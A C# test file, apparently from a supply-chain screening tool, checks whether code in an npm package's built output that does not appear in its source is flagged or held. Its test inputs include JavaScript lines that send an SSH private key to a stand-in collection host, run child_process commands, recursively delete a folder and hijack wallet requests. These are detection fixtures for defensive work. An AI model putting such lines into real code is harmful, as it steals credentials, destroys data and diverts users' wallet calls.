using System.Globalization;
using Sluice.Artifacts;
using Sluice.Configuration;
using Sluice.Policies;
using Sluice.Tests.Support;

namespace Sluice.Tests.Sources;

/// <summary>What the configuration declares as a build's output is taken for one, and not for a place where anything may be put.</summary>
public sealed class DeclaredFileTests
{
    private const string Manifest = """{"name":"counter","version":"1.2.3","license":"MIT","main":"dist/index.js"}""";

    private static readonly string Own = Functions("export function {0}(incomingValue) {{\n  return persistCounter('{1}', incomingValue);\n}}\n");

    private static readonly string Others = string.Concat(Enumerable.Range(0, 60).Select(i => $"function strangersThing{i}(someValue) {{ return someValue.someOtherField{i}; }}\n"));

    [Theory]
    [InlineData("")]
    [InlineData("fetch(someAddress).then(found => found.json());\n")]
    [InlineData("const root = new Function('return this')();\n")]
    [InlineData("const link = 'https://docs.example.net/errors';\n")]
    public void Other_peoples_code_may_be_in_it(string code)
    {
        var report = Hold(Own + Others + code);

        Assert.Equal(1, SourceFolder.Comparison(report).Explained);
        Assert.Empty(SourceFolder.Provenance(report));
    }

    [Theory]
    [InlineData("require('child_process').exec('id');\n", Decision.Allow)]
    [InlineData("fetch('https://collect.acme-fake.club/' + state);\n", Decision.Allow)]
    [InlineData("fetch('https://collect.acme-fake.club/' + read(home + '/.ssh/id_rsa'));\n", Decision.Hold)]
    [InlineData("window.ethereum.request = call => fetch(someAddress, call);\n", Decision.Hold)]
    public void What_it_does_as_nothing_in_the_source_is_told(string code, Decision decision)
    {
        var report = Hold(Own + Others + code);

        Assert.Equal([decision == Decision.Allow ? "source-mismatch Medium" : "source-mismatch High"], SourceFolder.Provenance(report));
        Assert.Equal(decision, report.Decision);
    }

    [Theory]
    [InlineData("require('child_process').exec('id');\n")]
    [InlineData("import('fs').then(f => f.rmSync(folder, { recursive: true }));\n")]
    [InlineData("window.ethereum.request = other;\n")]
    public void Where_all_else_is_of_the_source_that_is_held(string code) => Assert.Equal(Decision.Hold, Hold(Own + code).Decision);

    [Fact]
    public void What_the_source_does_itself_may_be_in_it() =>
        Assert.Empty(SourceFolder.Provenance(Hold(Own + "require('child_process').exec('id');\n", ("src/run.js", "import { exec } from 'child_process';\nexec('id');\n"))));

    private static string Functions(string format) => string.Concat(Enumerable.Range(0, 12).Select(i => string.Format(CultureInfo.InvariantCulture, format, $"increaseCounter{(char)('A' + i)}", $"counter_{(char)('a' + i)}lpha")));

    private static Report Hold(string output, params (string Path, string Text)[] more)
    {
        using var tree = SourceFolder.Of("v1.2.3", [("package.json", Manifest), ("src/index.js", Own), .. more]);
        Assert.True(Glob.TryParse("dist/**", out var pattern, out _));
        return Screening.Of("counter-1.2.3.tgz", TestArchive.Npm(Manifest, ("dist/index.js", output)), new ScreenOptions { Visibility = Visibility.Public, Source = tree.Request() with { Generated = [pattern] } });
    }
}
